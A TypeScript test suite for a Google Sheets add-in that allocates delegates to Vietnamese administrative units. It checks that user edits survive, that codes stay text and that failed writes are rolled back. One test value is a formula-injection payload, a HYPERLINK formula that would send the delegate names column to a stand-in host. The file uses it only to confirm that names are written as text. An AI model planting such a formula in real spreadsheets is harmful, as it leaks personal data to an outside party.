/**
 * "Phân bổ đại biểu" on a workbook decorated the way people decorate it: a total row with =SUM
 * below the units, a column of their own, fills and notes, official 5-digit codes kept as text
 * ("06100"), a code Sheets already turned into a number, unit names starting with = + - @ or
 * looking like a date, sorted rows, a new unit. Every cell the add-in does not own is compared,
 * whole (value, formula, note, background, number format, validation, font weight), before and after;
 * then every write is made to fail in turn.
 */
import { createHash } from 'node:crypto';
import { type CallCounts, Runtime, runBundle } from '../../local/runtime';
import { LocalLock } from '../../local/runtime/lock';
import type { LocalSpreadsheet } from '../../local/runtime/spreadsheet';
import { buildSample } from '../../local/samples';
import { loadWorkbook, workbookToBuffer } from '../../local/xlsx';
import { LANG_SON } from '../../samples/lang-son';
import type { AllocationResultDto } from '../../src/rpc/contract';
import { MESSAGES } from '../../src/ui/vi';

const NOW = '2024-01-14T09:00:00+07:00';
const ALLOCATION = 'Phân bổ';
const WHAT = `trang "${ALLOCATION}"`;
/** Computed columns of `Phân bổ` in the template (1-based): A–E, G–K (J: Cách tính, K: Hình thức). */
const OWNED_COLUMNS = new Set([1, 2, 3, 4, 5, 7, 8, 9, 10, 11]);
const INJECTION = `=HYPERLINK("https://x/?"&TEXTJOIN(",",1,'Đại biểu'!B2:B400),"x")`;
const ODD_NAMES = [INJECTION, '+84 Bản Mới', '-Xã Dưới', '@Xã Trên', '1/5', '1E5', '12:30'];

type Sheet = NonNullable<ReturnType<LocalSpreadsheet['getSheetByName']>>;
const sheetOf = (ss: LocalSpreadsheet, name: string): Sheet => {
  const s = ss.getSheetByName(name);
  if (!s) throw new Error(`no sheet ${name}`);
  return s;
};
/** Types text into a cell the way a person does when they mean text (the quote prefix). */
const typeText = (s: Sheet, a1: string, text: string) => s.getRange(a1).setValue(`'${text}`);

let codeMap: Map<string, string>;
let decoratedBytes: Buffer;

/** The Lạng Sơn sample with 5-digit codes as text in every sheet and odd unit names. */
function withOfficialCodes(ss: LocalSpreadsheet): void {
  const units = sheetOf(ss, 'Đơn vị');
  const codes = units
    .getDataRange()
    .getValues()
    .slice(1)
    .map((r) => String(r[0]))
    .filter(Boolean);
  codeMap = new Map(codes.map((c, i) => [c, `0${6100 + i * 3}`]));
  for (const name of ['Đơn vị', 'Dân tộc theo đơn vị', 'Đại biểu', 'Tiến độ', 'Thành viên']) {
    const s = sheetOf(ss, name);
    s.getDataRange()
      .getValues()
      .forEach((row, r) => {
        row.forEach((v, c) => {
          if (r === 0 || typeof v !== 'string' || v === '') return;
          const tokens = v.split(/,\s*/);
          if (!tokens.every((t) => codeMap.has(t))) return;
          s.getRange(r + 1, c + 1).setValue(`'${tokens.map((t) => codeMap.get(t)).join(', ')}`);
        });
      });
  }
  ODD_NAMES.forEach((name, i) => {
    typeText(units, `B${i + 3}`, name);
  });
}

/** A user's sort of the unit rows (reversed), moving whole rows as Sheets does. */
function reverseUnitRows(ss: LocalSpreadsheet, first: number, last: number): void {
  const s = sheetOf(ss, ALLOCATION);
  const width = s.getLastColumn();
  const range = s.getRange(first, 1, last - first + 1, width);
  const values = range.getValues().reverse();
  const formats = range.getNumberFormats().reverse();
  range.setNumberFormats(formats.map((r) => r.map(() => '@')));
  range.setValues(values.map((r) => r.map((v) => (typeof v === 'string' && v !== '' ? `'${v}` : v))));
  range.setNumberFormats(formats);
}

/** The decorated state, before the allocation under test. */
async function decorated(): Promise<LocalSpreadsheet> {
  return loadWorkbook(decoratedBytes);
}

beforeAll(async () => {
  const ss = buildSample(LANG_SON);
  withOfficialCodes(ss);
  const runtime = new Runtime({ spreadsheet: ss, now: NOW });
  expect((runBundle(runtime, 'allocateDelegates').result as AllocationResultDto).ok).toBe(true);
  const s = sheetOf(ss, ALLOCATION);
  reverseUnitRows(ss, 2, 12);
  // A total row below a blank row, filled and bold, with the user's formulas.
  typeText(s, 'B14', 'Tổng cộng');
  s.getRange('C14').setFormula('=SUM(C2:C12)');
  s.getRange('E14').setFormula('=SUM(E2:E12)');
  s.getRange('G14').setFormula('=SUM(G2:G12)');
  s.getRange('A14:L14').setBackground('#fff2cc');
  s.getRange('B14').setFontWeight('bold');
  // The user's own column, notes and fills; adjustments and their notes.
  typeText(s, 'M1', 'Người phụ trách');
  for (let r = 2; r <= 12; r++) typeText(s, `M${r}`, `Cán bộ ${r}`);
  s.getRange('M3').setNote('gọi lại trước thứ Hai');
  s.getRange('F2:F12').setBackground('#e6f4ea');
  s.getRange('F3').setValue(2);
  s.getRange('F6').setValue(-1);
  typeText(s, 'L3', 'tăng do địa bàn rộng'); // Ghi chú
  s.getRange('L6').setNote('theo Công văn 12');
  // A code Sheets turned into a number ("06106" typed in a cell that was not plain text), with its adjustment.
  const row4Code = String(s.getRange('A4').getValue());
  s.getRange('A4').setNumberFormat('0').setValue(Number(row4Code));
  s.getRange('F4').setValue(3);
  // The same in `Đại biểu`: a delegate of "06100" whose code lost its zero.
  sheetOf(ss, 'Đại biểu').getRange('C2').setValue(6100);
  // A new unit in `Đơn vị`.
  const units = sheetOf(ss, 'Đơn vị');
  const next = units.getLastRow() + 1;
  typeText(units, `A${next}`, '06199');
  typeText(units, `B${next}`, 'Xã Mới');
  units.getRange(next, 3, 1, 2).setValues([[5200, 4100]]);
  decoratedBytes = await workbookToBuffer(ss);
});

// ---------------------------------------------------------------------------------------------
// Whole-cell snapshots

type CellSnapshot = [unknown, string, string, string, string, string, string];

function validationText(v: GoogleAppsScript.Spreadsheet.DataValidation | null): string {
  if (!v) return '';
  const values = v
    .getCriteriaValues()
    .map((x) =>
      x && typeof x === 'object' && 'getA1Notation' in x ? (x as { getA1Notation(): string }).getA1Notation() : x,
    );
  return `${v.getCriteriaType()}:${JSON.stringify(values)}`;
}

function cellsOf(s: Sheet): CellSnapshot[][] {
  const range = s.getRange(1, 1, Math.max(1, s.getLastRow()), Math.max(1, s.getLastColumn()));
  const values = range.getValues();
  const formulas = range.getFormulas();
  const notes = range.getNotes();
  const backgrounds = range.getBackgrounds();
  const formats = range.getNumberFormats();
  const validations = range.getDataValidations();
  const weights = range.getFontWeights();
  return values.map((row, r) =>
    row.map((v, c) => [
      v instanceof Date ? v.toISOString() : v,
      formulas[r]?.[c] ?? '',
      notes[r]?.[c] ?? '',
      backgrounds[r]?.[c] ?? '',
      formats[r]?.[c] ?? '',
      validationText(validations[r]?.[c] ?? null),
      String(weights[r]?.[c] ?? ''),
    ]),
  );
}

/** The unit code a `Phân bổ` code cell stands for (a number is read back with its lost zero). */
function unitKey(v: unknown, codes: ReadonlySet<string>): string | null {
  const text = typeof v === 'number' ? String(v).padStart(5, '0') : String(v);
  return codes.has(text) ? text : null;
}

/**
 * Every cell the add-in does not own: other sheets whole; in `Phân bổ` the header, the rows that are
 * not a unit's (in order), and the user's columns of each unit row (keyed by its unit).
 */
function userCells(ss: LocalSpreadsheet): Record<string, unknown> {
  const codes = new Set(
    sheetOf(ss, 'Đơn vị')
      .getDataRange()
      .getValues()
      .slice(1)
      .map((r) => String(r[0]))
      .filter(Boolean),
  );
  const out: Record<string, unknown> = {};
  for (const s of ss.getSheets()) {
    // The add-in's own hidden record of the previous allocation (for "Hoàn tác phân bổ").
    if (s.getName() === 'Trợ lý DTTS – phân bổ trước') continue;
    const cells = cellsOf(s);
    if (s.getName() !== ALLOCATION) {
      out[s.getName()] = cells;
      continue;
    }
    const others: CellSnapshot[][] = [];
    const units: Record<string, CellSnapshot[]> = {};
    cells.forEach((row, r) => {
      const key = r === 0 ? null : unitKey(row[0]?.[0], codes);
      if (key === null) others.push(row);
      else units[key] = row.filter((_, c) => !OWNED_COLUMNS.has(c + 1));
    });
    out[`${ALLOCATION}:rows`] = others;
    out[`${ALLOCATION}:units`] = units;
  }
  return out;
}

/** Everything in the workbook, owned cells included, and each sheet's size. */
function fullDigest(ss: LocalSpreadsheet): string {
  const hash = createHash('sha256');
  for (const s of ss.getSheets()) hash.update(JSON.stringify([s.getName(), s.getMaxRows(), cellsOf(s)]));
  return hash.digest('hex');
}

const run = (runtime: Runtime) =>
  runBundle(runtime, 'allocateDelegates', [{ confirmed: true }]) as { result: unknown; calls: CallCounts };
const errorOf = (fn: () => unknown): string => {
  try {
    fn();
  } catch (e) {
    return (e as Error).message;
  }
  throw new Error('expected an error');
};

function unitRowsOf(ss: LocalSpreadsheet): { row: number; cells: unknown[]; formulas: string[] }[] {
  const s = sheetOf(ss, ALLOCATION);
  const range = s.getDataRange();
  const formulas = range.getFormulas();
  const codes = new Set(codeMap.values()).add('06199');
  return range
    .getValues()
    .map((cells, i) => ({ row: i + 1, cells, formulas: formulas[i] ?? [] }))
    .filter((r) => r.row > 1 && typeof r.cells[0] === 'string' && codes.has(r.cells[0]));
}

// ---------------------------------------------------------------------------------------------

describe('allocation on a decorated workbook', () => {
  let ss: LocalSpreadsheet;
  let before: Record<string, unknown>;
  let result: AllocationResultDto;
  let runtime: Runtime;

  beforeAll(async () => {
    ss = await decorated();
    before = userCells(ss);
    runtime = new Runtime({ spreadsheet: ss, now: NOW });
    result = run(runtime).result as AllocationResultDto;
  });

  it('allocates', () => {
    expect(result.ok).toBe(true);
    expect(result.rows).toHaveLength(12);
  });

  it("changes no cell it does not own: the user's rows, columns, formulas, notes, fills, formats", () => {
    const after = userCells(ss);
    // The new unit's row is new: its user cells (Điều chỉnh, Ghi chú, the user's column) are empty.
    const added = (after[`${ALLOCATION}:units`] as Record<string, CellSnapshot[]>)['06199'];
    expect(added?.map((c) => c.slice(0, 3))).toEqual([
      ['', '', ''],
      ['', '', ''],
      ['', '', ''],
    ]);
    delete (after[`${ALLOCATION}:units`] as Record<string, CellSnapshot[]>)['06199'];
    expect(after).toEqual(before);
  });

  it("keeps the user's total row with its =SUM formulas below the units, and inserts the new unit above it", () => {
    const s = sheetOf(ss, ALLOCATION);
    const values = s.getDataRange().getValues();
    const total = values.findIndex((r) => r[1] === 'Tổng cộng') + 1;
    expect(total).toBe(15);
    expect(s.getRange(total, 1, 1, 7).getFormulas()[0]).toEqual([
      '',
      '',
      '=SUM(C2:C12)',
      '',
      '=SUM(E2:E12)',
      '',
      '=SUM(G2:G12)',
    ]);
    expect(
      s
        .getRange(`A${total}:J${total}`)
        .getBackgrounds()[0]
        ?.every((b) => b === '#fff2cc'),
    ).toBe(true);
    const rows = unitRowsOf(ss);
    expect(rows.map((r) => r.row)).toEqual([2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13]);
    expect(rows[11]?.cells.slice(0, 2)).toEqual(['06199', 'Xã Mới']);
    expect(values[13]?.every((v) => v === '')).toBe(true); // the user's blank row, moved down with the total
    expect(result.message).toMatch(/chèn 1 dòng mới .* sau dòng 12/);
  });

  it('writes codes and names as text, never a number, date or formula', () => {
    const s = sheetOf(ss, ALLOCATION);
    const rows = unitRowsOf(ss);
    const unitNames = new Map(
      sheetOf(ss, 'Đơn vị')
        .getDataRange()
        .getValues()
        .slice(1)
        .map((r) => [r[0], r[1]]),
    );
    for (const r of rows) {
      expect(r.cells[0]).toMatch(/^0\d{4}$/);
      expect(r.cells[1]).toBe(unitNames.get(r.cells[0]));
      expect(r.formulas.slice(0, 2)).toEqual(['', '']);
      expect(s.getRange(r.row, 1, 1, 2).getNumberFormats()[0]).toEqual(['@', '@']);
    }
    const names = rows.map((r) => r.cells[1]);
    for (const odd of ODD_NAMES) expect(names).toContain(odd);
  });

  it('matches the code Sheets turned into a number to its unit, keeps its adjustment, and says so naming the cell', () => {
    const rows = unitRowsOf(ss);
    const fixed = rows.find((r) => r.row === 4);
    expect(typeof fixed?.cells[0]).toBe('string');
    expect(fixed?.cells[5]).toBe(3);
    expect(fixed?.cells[6]).toBe((fixed?.cells[4] as number) + 3);
    const warning = result.problems.find((p) => p.sheet === ALLOCATION && p.cell === 'A4');
    expect(warning?.severity).toBe('warning');
    expect(warning?.message).toContain(String(fixed?.cells[0]));
    const delegate = result.problems.find((p) => p.sheet === 'Đại biểu' && p.cell === 'C2');
    expect(delegate?.message).toMatch(/6100.*"06100"/);
  });

  it('keeps each adjustment on its unit after a sort (matched by code, not position)', () => {
    expect(unitRowsOf(ss)).toHaveLength(12);
    for (const r of unitRowsOf(ss)) {
      const adjustment = typeof r.cells[5] === 'number' ? r.cells[5] : 0;
      expect(r.cells[6]).toBe((r.cells[4] as number) + adjustment);
      const dto = result.rows.find((x) => x.code === r.cells[0]);
      expect(dto?.adjustment).toBe(adjustment);
      expect(dto?.final).toBe(r.cells[6]);
    }
  });

  it('a second run appends nothing and changes nothing', () => {
    const digest = fullDigest(ss);
    const again = run(runtime).result as AllocationResultDto;
    expect(again.ok).toBe(true);
    expect(fullDigest(ss)).toBe(digest);
    expect(again.message).not.toMatch(/dòng mới/);
    const third = run(runtime);
    expect(fullDigest(ss)).toBe(digest);
    // Nothing to reformat on a settled sheet: two value blocks (A–E, G–I) and no row insertion.
    expect(third.calls['Range.setValues']).toBe(2);
    expect(third.calls['Range.setNumberFormat']).toBeUndefined();
    expect(third.calls['Sheet.insertRowsAfter']).toBeUndefined();
  });
});

describe('a fault in any write', () => {
  /** How many calls of each write kind a successful run makes on the decorated workbook. */
  let writes: Record<string, number>;
  beforeAll(async () => {
    const calls = run(new Runtime({ spreadsheet: await decorated(), now: NOW })).calls;
    writes = Object.fromEntries(
      ['Range.setValues', 'Range.setNumberFormat', 'Sheet.insertRowsAfter', 'SpreadsheetApp.flush'].map((k) => [
        k,
        calls[k] ?? 0,
      ]),
    );
    expect(writes['Sheet.insertRowsAfter']).toBe(1);
    expect(writes['Range.setNumberFormat']).toBeGreaterThan(0);
  });

  it('covers every write', () => {
    expect(Object.values(writes).reduce((a, b) => a + b, 0)).toBeGreaterThanOrEqual(5);
  });

  const cases = (): [string, number][] =>
    Object.entries(writes).flatMap(([key, n]) =>
      Array.from({ length: key === 'SpreadsheetApp.flush' ? 1 : n }, (_, i) => [key, i] as [string, number]),
    );

  it('leaves the workbook identical, formulas as formulas, and says it was restored', async () => {
    const swept: string[] = [];
    for (const [key, after] of cases()) {
      const ss = await decorated();
      const digest = fullDigest(ss);
      const runtime = new Runtime({ spreadsheet: ss, now: NOW });
      runtime.failOn(key, { after });
      const message = errorOf(() => run(runtime));
      expect([key, after, message]).toEqual([key, after, MESSAGES.writeFailedRestored(WHAT)]);
      expect([key, after, fullDigest(ss)]).toEqual([key, after, digest]);
      expect(sheetOf(ss, ALLOCATION).getRange('C14').getFormula()).toBe('=SUM(C2:C12)');
      swept.push(`${key}#${after}`);
    }
    expect(swept.length).toBeGreaterThanOrEqual(5);
  });

  it('says the restore is incomplete when the restore fails too', async () => {
    const ss = await decorated();
    const runtime = new Runtime({ spreadsheet: ss, now: NOW });
    runtime.failOn('Range.setValues', { after: 1, times: 2 });
    expect(errorOf(() => run(runtime))).toBe(MESSAGES.writeFailedPartial(WHAT));
  });

  it('a failing flush before the lock is released says some changes may not be saved, not that nothing changed', async () => {
    const runtime = new Runtime({ spreadsheet: await decorated(), now: NOW });
    runtime.failOn('SpreadsheetApp.flush', { after: 1 });
    expect(errorOf(() => run(runtime))).toBe(MESSAGES.flushFailedIn(WHAT));
  });

  it('a failing save of the summary in the document properties keeps the result', async () => {
    const ss = await decorated();
    const runtime = new Runtime({ spreadsheet: ss, now: NOW });
    runtime.failOn('Properties.setProperty');
    const r = run(runtime).result as AllocationResultDto;
    expect(r.ok).toBe(true);
    expect(r.message).toMatch(/^Đã phân bổ/);
    expect(unitRowsOf(ss)).toHaveLength(12);
  });

  it('a failing releaseLock after the writes keeps the result and never says nothing changed', async () => {
    const ss = await decorated();
    const runtime = new Runtime({ spreadsheet: ss, now: NOW });
    runtime.failOn('Lock.releaseLock');
    const { result } = run(runtime);
    const r = result as AllocationResultDto;
    expect(r.ok).toBe(true);
    expect(r.message).toMatch(/^Đã phân bổ/);
    expect(r.message).not.toMatch(/không bị thay đổi|chưa bị thay đổi/);
    expect(unitRowsOf(ss)).toHaveLength(12);
  });
});

describe('what allocation reads', () => {
  it('reads `Phân bổ` under the lock: a sort made while it waited keeps adjustments on their units', () => {
    const ss = buildSample(LANG_SON);
    run(new Runtime({ spreadsheet: ss, now: NOW }));
    const s = sheetOf(ss, ALLOCATION);
    s.getRange('F3').setValue(2);
    s.getRange('F6').setValue(-1);
    const original = LocalLock.prototype.tryLock;
    const spy = jest.spyOn(LocalLock.prototype, 'tryLock').mockImplementation(function (this: LocalLock, ms: number) {
      reverseUnitRows(ss, 2, 12); // someone sorts while this execution waits for the lock
      return original.call(this, ms);
    });
    try {
      const result = run(new Runtime({ spreadsheet: ss, now: NOW })).result as AllocationResultDto;
      expect(result.ok).toBe(true);
      expect(spy).toHaveBeenCalledTimes(1);
    } finally {
      spy.mockRestore();
    }
    const rows = s.getRange('A2:I12').getValues();
    expect(rows.filter((r) => r[5] !== '')).toHaveLength(2);
    for (const r of rows) {
      const adjustment = typeof r[5] === 'number' ? r[5] : 0;
      expect([r[0], r[6]]).toEqual([r[0], (r[4] as number) + adjustment]);
    }
  });

  it('leaves the row of a unit no longer in `Đơn vị` as it is, and says so naming the row', async () => {
    const ss = await decorated();
    const units = sheetOf(ss, 'Đơn vị');
    const last = units.getLastRow();
    const gone = String(units.getRange(last - 1, 1).getValue());
    units.deleteRow(last - 1);
    const s = sheetOf(ss, ALLOCATION);
    const row =
      s
        .getRange('A1:A12')
        .getValues()
        .findIndex((r) => r[0] === gone) + 1;
    expect(row).toBeGreaterThan(1);
    const before = cellsOf(s)[row - 1];
    const result = run(new Runtime({ spreadsheet: ss, now: NOW })).result as AllocationResultDto;
    expect(result.ok).toBe(true);
    expect(cellsOf(s)[row - 1]).toEqual(before);
    const warning = result.problems.find((p) => p.rule === 'allocation-unknown-row');
    expect(warning).toMatchObject({ sheet: ALLOCATION, cell: `A${row}`, severity: 'warning' });
    expect(warning?.message).toContain(gone);
  });

  it('never runs setup implicitly: a missing sheet or column is a message, and nothing changes', async () => {
    for (const mutate of [
      (ss: LocalSpreadsheet) => ss.deleteSheet(sheetOf(ss, ALLOCATION)),
      (ss: LocalSpreadsheet) => typeText(sheetOf(ss, ALLOCATION), 'E1', 'Số PB'),
    ]) {
      const ss = await decorated();
      mutate(ss);
      const digest = fullDigest(ss);
      const result = run(new Runtime({ spreadsheet: ss, now: NOW })).result as AllocationResultDto;
      expect(result.ok).toBe(false);
      expect(result.message).toMatch(/Thiết lập bảng tính.*chưa bị thay đổi/);
      expect(fullDigest(ss)).toBe(digest);
    }
  });
});
